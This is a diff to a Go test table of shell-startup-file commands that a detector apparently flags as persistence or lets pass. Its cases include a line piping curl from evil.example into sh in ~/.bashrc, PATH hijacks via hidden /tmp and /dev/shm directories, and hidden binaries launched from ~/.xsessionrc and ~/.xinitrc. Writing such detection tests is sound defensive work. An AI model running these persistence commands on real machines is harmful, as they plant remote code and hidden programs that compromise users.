@@ -30,6 +30,8 @@ func TestShellRCSettings(t *testing.T) {
 		cmdCase(`echo 'fish_add_path /dev/shm/.b' >> ~/.config/fish/config.fish`, true),
 		cmdCase(`echo 'nohup ~/.local/share/gvfs/.gvfsd-helper >/dev/null 2>&1 &' >> ~/.xsessionrc`, true),
 		cmdCase(`echo 'export EDITOR=vim' >> ~/.xprofile`, false),
+		cmdCase(`printf 'xset r rate 200 40\nxrandr --output DP-1 --primary\n' >> ~/.xsessionrc`, false),
+		cmdCase(`echo 'xrdb -merge ~/.Xresources; ~/.local/bin/.x &' >> ~/.xinitrc`, true),
 		// Anything that runs, hides or redirects.
 		cmdCase(`echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc`, true),
 		cmdCase(`echo 'export PATH="/tmp/.x:$PATH"' >> ~/.bashrc`, true),
